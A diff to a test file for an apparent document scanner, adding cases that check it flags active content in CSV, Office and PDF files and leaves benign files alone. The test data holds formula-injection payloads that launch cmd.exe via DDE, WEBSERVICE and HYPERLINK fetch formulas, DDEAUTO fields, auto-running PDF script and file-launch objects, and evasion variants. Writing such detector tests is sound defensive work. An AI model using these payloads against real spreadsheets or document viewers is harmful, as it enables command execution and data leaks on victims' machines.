@@ -10,6 +10,7 @@ const text = p(r('A plan'));
 const external = (kind: string, target: string) => ({ relationships: relationship('x1', kind, target, 'External') });
 const settings = (target: string) => ({ files: { 'word/_rels/settings.xml.rels': relationships(relationship('x1', 'attachedTemplate', target, 'External')) } });
 const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
+const part = (body: string) => `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
 const instr = (words: string, element = 'instrText') => `<w:r><w:${element}>${words}</w:${element}></w:r>`;
 const field = (...words: readonly string[]) => p(mark('begin') + words.map((each) => instr(each)).join('') + mark('separate') + r('x') + mark('end'));
 const cell = (formula: string) => ({ data: `<row r="4"><c r="B4"><f>${formula}</f><v>1</v></c></row>` });
@@ -18,6 +19,7 @@ const formula = (words: string) => ods(otbl(otr(otc('1', `table:formula="${words
 const pdf = (...objects: readonly string[]) => Buffer.from(`%PDF-1.7\n${objects.map((each, at) => `${at + 1} 0 obj ${each} endobj\n`).join('')}trailer << /Root 1 0 R >>\n%%EOF`, 'latin1');
 const stream = (dictionary: string, bytes: Buffer) => `<< ${dictionary} /Length ${bytes.length} >> stream\n${bytes.toString('latin1')}\nendstream`;
 const packed = (objects: string) => stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from(`7 0 ${objects}`)));
+const openedAtOnce = (...objects: readonly string[]) => pdf('<< /OpenAction 2 0 R >>', ...objects);
 const chunk = (kind: string) => Buffer.concat([Buffer.alloc(4), Buffer.from(kind), Buffer.alloc(4)]);
 const png = (...behind: readonly Buffer[]) => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IDAT'), chunk('IEND'), ...behind]);
 const jpg = (...behind: readonly Buffer[]) => Buffer.concat([Buffer.from('ffd8ffe0000000ffd9', 'hex'), ...behind]);
@@ -95,6 +97,24 @@ const ACTIVE: readonly (readonly [what: string, name: string, bytes: Uint8Array,
   ['values that start a program', 'a.csv', words("name,day\nAnn,=cmd|'/c calc'!A0"), /DDE\) \(row 2\)/],
   ['values that fetch', 'a.csv', words('name;day\nAnn;"=WEBSERVICE(""http://example.org/""&A1)"'), /WEBSERVICE/],
   ['values that fetch behind a full-width sign', 'a.csv', words('\uff1dIMPORTXML("http://example.org","x")'), /IMPORTXML/],
+  ...['dat', 'real'].map((end) => [`a field in a part whose name ends in ${end}`, 'a.docx', docx(text, { files: { [`word/${end}`]: `\ufeff ${part(field('DDEAUTO cmd x'))}` } }), /DDE/] as const),
+  ['a formula in a part of another name', 'a.xlsx', xlsx([sheet], { files: { 'other/sheet.dat': '<worksheet><c r="A1"><f>WEBSERVICE("http://example.org")</f></c></worksheet>' } }), /WEBSERVICE/],
+  ['a formula that another element parts', 'a.xlsx', xlsx([cell('WEBSER<z/>VICE("http://example.org")')]), /WEBSERVICE/],
+  ['a formula that starts a program with no item', 'a.xlsx', xlsx([cell("MSEXCEL|'\\..\\cmd.exe'!''")]), /DDE/],
+  ['a formula that starts a program behind a mark in the name of a sheet', 'a.xlsx', xlsx([cell(`'a"'!A1+cmd|'/c "x'!A0`)]), /DDE/],
+  ['a picture of OpenDocument in a part of another name', 'a.odt', odt(op('x'), { files: { other: '<x><draw:image xlink:href="https://example.org/x.png"/></x>' } }), /picture/],
+  ['a script behind a bracket in a comment', 'a.pdf', pdf('% (\n<< /S /JavaScript /JS 5 0 R >> % )\n'), /script/],
+  ['a script behind an object in a comment', 'a.pdf', pdf('<< /S % 9 0 obj (\n/JavaScript /JS 5 0 R >> % )\n'), /script/],
+  ...['<< /A (stream) /S /JavaScript >>', '<< /stream 1 /S /JavaScript >>', '%stream\n<< /S /JavaScript >>'].map((each) => [`a script behind what is no stream, ${each}`, 'a.pdf', pdf(each), /script/] as const),
+  ['a script in an object stream that does not say so', 'a.pdf', pdf(stream('/N 1 /First 4 /Filter [/FlateDecode]', deflateSync(Buffer.from('7 0 << /S /JavaScript >>')))), /script/],
+  ...['<< /S 3 0 R /F (x) >>', `<<${' '.repeat(200)}/S%(\n/GoToR /F (%) >>`].map((each) => [`a PDF that opens a file at once by ${each.trim()}`, 'a.pdf', openedAtOnce(each, '/GoToR'), /opens another/] as const),
+  ['objects that a stream lists out of order', 'a.pdf', openedAtOnce('null', stream('/Type /ObjStm /N 2 /First 8', Buffer.from('2 5 8 0 null << /S /GoToR >>'))), /opens another/],
+  ...["=MSEXCEL|'\\..\\cmd.exe'!''", "=cmd|'/c x'!'A0'", "=cmd|'/c ''x'''!A0", `=cmd|'/c ${'x'.repeat(400)}'!A0`, "=cmd|'/c x'! A0", "=cmd|'/c x'!é1", "=cmd|'/c x'!#REF!", `"=cmd|'/c x\ny'!A0"`, "@SUM(1+1)*cmd|' /c x'!A0", "-2+3+cmd|'/c x'!A0", '+cmd|x!A0', "sep=^\nx^=cmd|'/c x'!A0"].map(
+    (each) => [`values that start a program by ${each.slice(0, 40)}`, 'a.csv', words(each), /DDE/] as const,
+  ),
+  ...['WEBSERVICE ("http://example.org")', 'WEBSERVICE(("http://example.org"))', 'WEBSERVICE(+A1)', "WEBSERVICE('S 1'!A1)", 'CALL(x)'].map((each) => [`values that fetch by ${each}`, 'a.csv', words(`"=${each.replaceAll('"', '""')}"`), /fetches/] as const),
+  ...['"\\"&"\\server\\x"', '"http://example.org/?"&A1', 'A1'].map((each) => [`values with a link that is put together, ${each}`, 'a.csv', words(`"=HYPERLINK(${each.replaceAll('"', '""')},""x"")"`), /opens a file/] as const),
+  ['values of a workbook on another computer', 'a.csv', words('x,=\\\\server\\share\\x.xlsx!A1'), /another file/],
   ['a page with a script', 'a.html', words('<!doctype html><p>A plan<script>x</script>'), /script/],
   ['a page under an old name that fetches', 'a.doc', words('<html><body><p>A plan<img src="\\\\server\\x.png">'), /server/],
   ['a page that fetches by its style', 'a.html', words('<!doctype html><style>p{background:url(https://example.org/x)}</style><p>A plan'), /elsewhere/],
@@ -128,6 +148,9 @@ const QUIET: readonly (readonly [what: string, name: string, bytes: Uint8Array])
   ['a picture', 'a.png', png(Buffer.alloc(8))],
   ['a photograph with a preview behind it', 'a.jpg', jpg(jpg())],
   ['values with signs and formulas that compute', 'a.csv', words('a,b\n-5,+44 20 7946\n=1+1,"=""0123"""\n- image(s) to replace,@lead')],
+  ['notes that begin with a sign', 'a.csv', words('- see page 3 | done!,- call (Ann) | soon!,"=> agreed | good!",- kept on \\\\server\\files,- register (page 2),@Ann | thanks\n"=HYPERLINK(""https://example.org/x"",""x"")"')],
+  ['a PDF that speaks of scripts', 'a.pdf', pdf('<< /Title (/JS \\) /Launch (stream) %) /Author <2f4a53> >> % /JavaScript\n')],
+  ['a fraction', 'a.docx', docx(p('<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:t>n|k!</m:t></m:f>'))],
   ['words', 'a.txt', words('=cmd|x!A0 <script>')],
   ['a page of words', 'a.html', words('<!doctype html><p><a href="https://example.org">A plan</a><img src="x.png"><img src="data:image/png;base64,x">')],
 ];
@@ -136,8 +159,25 @@ for (const [what, name, bytes] of QUIET) {
   test(`${what} may stay`, async () => assert.deepEqual(await judge(bytes, name), { active: null, unreadable: null }));
 }
 
+const UNSEEN: readonly (readonly [what: string, object: string])[] = [
+  ['an object stream whose filter stands elsewhere', stream('/Type /ObjStm /N 1 /First 4 /Filter 6 0 R', Buffer.from('x'))],
+  ['an object stream whose filter stands elsewhere in a list', stream('/N 1 /First 4 /Filter [6 0 R]', Buffer.from('x'))],
+  ['an object stream that is packed twice', stream('/N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', Buffer.from('x'))],
+  ['an object stream whose beginning stands elsewhere', stream('/N 1 /First 6 0 R', Buffer.from('x'))],
+  ['an object stream that cannot be unpacked', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('x'))],
+  ['a stream within a dictionary', '<< /A << >> stream /S /X >>'],
+];
+
+for (const [what, object] of UNSEEN) {
+  test(`${what} cannot be looked through, and that is said`, async () => {
+    const { active, unreadable } = await judge(pdf(object), 'a.pdf');
+    assert.equal(active, null);
+    assert.match(unreadable ?? '', /keeps what is in it from being seen/);
+  });
+}
+
 const LONG = 100_000;
-const RUNS = ['(', '[', '<', '/', '%', '1 ', '\\', ' ', 'stream', 'endstream', '1 0 obj', '/AA<<', '/AA 1 0 R ', '"', "'", '|', '=', '\\\\', '-,', '=A(', "'|"];
+const RUNS = ['(', '[', '<', '/', '%', '1 ', '\\', ' ', 'stream', 'endstream', '1 0 obj', '/AA<<', '/AA 1 0 R ', '"', "'", '|', '=', '\\\\', '-,', '=A(', "'|", '% 1 0 obj (', '1 0 obj (', '<< >> stream ', '=a|', '"&"', '<0'];
 
 for (const run of RUNS) {
   test(`a long run of ${JSON.stringify(run)} is looked through in a moment in every kind of file`, { timeout: 20_000 }, async () => {
